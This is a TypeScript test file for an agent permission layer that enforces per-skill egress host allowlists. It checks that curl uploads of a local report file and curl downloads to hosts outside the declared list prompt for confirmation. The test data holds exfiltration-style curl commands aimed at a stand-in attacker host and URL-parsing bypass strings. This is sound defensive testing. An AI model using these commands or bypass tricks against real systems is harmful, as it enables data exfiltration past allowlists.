import { describe, expect, it } from 'vitest';
import { constraintsWithin, hostsAllow, parseEgress, parseManifest, urlAllowed, type ScopeEnv } from '../../src/shared/permissions';
import type { Primitive } from '../../src/shared/skill';
import { harness, libraryOf, skillDoc } from './permissionHarness';

/**
 * Issue 10, argument-level constraints: a skill that legitimately posts to one API declares
 * `hosts: [api.example.com]`; an attack that reuses `web.post` against another host (by script,
 * by URL tricks) is not covered by that entry and still asks.
 */

const env: ScopeEnv = { folders: {}, pathStyle: 'posix', utcOffsetMinutes: 0 };
const curl = (url: string): Primitive => ({ action: 'run_script', interpreter: 'bash', script: `curl -d @/srv/report.json '${url}'` });

describe('src/shared/permissions/hosts (issue 10: egress host allowlists)', () => {
  const lib = libraryOf(
    skillDoc(
      'ed.report',
      [
        { capability: 'script.execute', effect: 'allow' },
        { capability: 'file.read', effect: 'allow', constraints: { paths: ['/srv/report.json'] } },
        { capability: 'web.post', effect: 'allow', constraints: { hosts: ['api.example.com'] } },
        // Anything else the script sends is for the user to decide.
        { capability: 'web.post', effect: 'confirm', priority: -1 },
      ],
      [curl('https://api.example.com/v1/upload')],
    ),
  );

  it('lets the declared upload through without asking', async () => {
    const h = harness({ library: lib, env });
    expect(await h.step('ed.report', curl('https://api.example.com/v1/upload'))).toEqual({ effect: 'allow' });
    expect(await h.step('ed.report', curl('https://API.Example.COM./v1/upload'))).toEqual({ effect: 'allow' });
    expect(h.prompter.asked).toEqual([]);
  });

  it.each([
    ['another host', 'https://evil.example.net/collect'],
    ['userinfo that looks like the host', 'https://api.example.com@evil.example.net/'],
    ['a backslash parsers read differently', 'https://evil.example.net\\@api.example.com/'],
    ['a longer host with the same prefix', 'https://api.example.com.evil.example.net/'],
    ['another port', 'https://api.example.com:8443/v1/upload'],
    ['plain http to a port of its own', 'http://api.example.com:443/'],
    ['a subdomain', 'https://x.api.example.com/'],
    ['a percent-encoded host', 'https://api%2eexample.com/'],
  ])('asks before sending to %s', async (_what, url) => {
    const h = harness({ library: lib, env, answers: ['deny'] });
    const d = await h.step('ed.report', curl(url));
    expect(h.prompter.asked).toEqual([expect.objectContaining({ capability: 'web.post', policySource: 'manifest:ed.report#3' })]);
    expect(d).toMatchObject({ effect: 'deny', code: 'permission.not_confirmed' });
  });

  it('holds web.fetch to its hosts too: a download from another host asks', async () => {
    const fetchOf = (url: string): Primitive => ({ action: 'run_script', interpreter: 'bash', script: `curl -s '${url}'` });
    const fetcher = libraryOf(
      skillDoc(
        'ed.rates',
        [
          { capability: 'script.execute', effect: 'allow' },
          { capability: 'web.fetch', effect: 'allow', constraints: { hosts: ['rates.example.com'] } },
          { capability: 'web.fetch', effect: 'confirm', priority: -1 },
        ],
        [fetchOf('https://rates.example.com/today')],
      ),
    );
    const ok = harness({ library: fetcher, env });
    expect(await ok.step('ed.rates', fetchOf('https://rates.example.com/today'))).toEqual({ effect: 'allow' });
    const other = harness({ library: fetcher, env, answers: ['deny'] });
    const d = await other.step('ed.rates', fetchOf('https://rates.example.com.evil.example.net/today'));
    expect(other.prompter.asked).toEqual([expect.objectContaining({ capability: 'web.fetch' })]);
    expect(d).toMatchObject({ effect: 'deny', code: 'permission.not_confirmed' });
  });

  it('reads hosts as connections do: case, IDNA, ports, IPv4 forms, IPv6, scp and socket targets', () => {
    expect(parseEgress('https://API.example.com/x')).toMatchObject({ host: 'api.example.com', port: 443, defaultPort: true });
    expect(parseEgress('https://bücher.example/')?.host).toBe('xn--bcher-kva.example');
    expect(parseEgress('http://2130706433/')).toMatchObject({ host: '127.0.0.1', isIp: true });
    expect(parseEgress('http://0x7f.0.0.1:8080/')).toMatchObject({ host: '127.0.0.1', port: 8080, defaultPort: false });
    expect(parseEgress('https://[::1]:443/')).toMatchObject({ host: '[::1]', port: 443, defaultPort: true });
    expect(parseEgress('ssh://git@api.example.com:repo/x')).toMatchObject({ host: 'api.example.com', port: 22 });
    expect(parseEgress('tcp://evil.example.net:4444')).toMatchObject({ host: 'evil.example.net', port: 4444 });
    expect(parseEgress('https://a@b@evil.example.net/')).toBeUndefined();
    expect(parseEgress('mailto:bob@example.com')).toBeUndefined();
    expect(hostsAllow('https://bücher.example/', ['BÜCHER.example'])).toBe(true);
    expect(hostsAllow('http://127.1/', ['127.0.0.1'])).toBe(true);
    expect(hostsAllow('https://api.example.com:8443/', ['api.example.com:8443'])).toBe(true);
    expect(hostsAllow('https://api.example.com:8443/', ['api.example.com:*'])).toBe(true);
    expect(hostsAllow('https://up.example.com/', ['*.example.com'])).toBe(true);
    expect(hostsAllow('https://example.com/', ['*.example.com'])).toBe(false);
    expect(hostsAllow('https://evilexample.com/', ['*.example.com'])).toBe(false);
    expect(hostsAllow('https://10.0.0.1/', ['*.0.0.1'])).toBe(false);
    expect(hostsAllow('ssh://git@api.example.com:repo', ['api.example.com'])).toBe(true);
  });

  it('does not let `urls` prefixes or `domains` be fooled by userinfo or backslashes', () => {
    expect(urlAllowed('https://api.example.com@evil.example.net/', undefined, ['https://api.example.com'])).toBe(false);
    expect(urlAllowed('https://api.example.com.evil.example.net/', undefined, ['https://api.example.com'])).toBe(false);
    expect(urlAllowed('https://api.example.com/v1/../admin', undefined, ['https://api.example.com/v1/'])).toBe(false);
    expect(urlAllowed('https://api.example.com/v1/items', undefined, ['https://api.example.com/v1/'])).toBe(true);
    expect(urlAllowed('https://evil.example.net\\@api.example.com/', ['api.example.com'], undefined)).toBe(false);
  });

  it('refuses host patterns that say more or less than a host', () => {
    const bad = (h: string) => parseManifest([{ capability: 'web.post', effect: 'allow', constraints: { hosts: [h] } }]);
    for (const h of ['*', '*.com', 'https://api.example.com/', 'api.example.com/v1', 'user@api.example.com', 'api.example.com:99999'])
      expect(bad(h).ok, h).toBe(false);
    expect(bad('*.example.com:*').ok).toBe(true);
    expect(parseManifest([{ capability: 'web.post', effect: 'allow', constraints: { hosts: [] } }]).ok).toBe(false);
  });

  it('keeps a callee within its caller only when its hosts are within the caller’s', () => {
    expect(constraintsWithin({ hosts: ['example.com'] }, { hosts: ['*.example.com'] }, env)).toBe(false);
    expect(constraintsWithin({ hosts: ['up.example.com'] }, { hosts: ['*.example.com'] }, env)).toBe(true);
    expect(constraintsWithin({ hosts: ['*.up.example.com'] }, { hosts: ['*.example.com'] }, env)).toBe(true);
    expect(constraintsWithin({ hosts: ['*.example.com'] }, { hosts: ['up.example.com'] }, env)).toBe(false);
    expect(constraintsWithin({ hosts: ['api.example.com:8443'] }, { hosts: ['api.example.com'] }, env)).toBe(false);
    expect(constraintsWithin({ hosts: ['api.example.com:8443'] }, { hosts: ['api.example.com:*'] }, env)).toBe(true);
    expect(constraintsWithin({}, { hosts: ['api.example.com'] }, env)).toBe(false);
  });
});
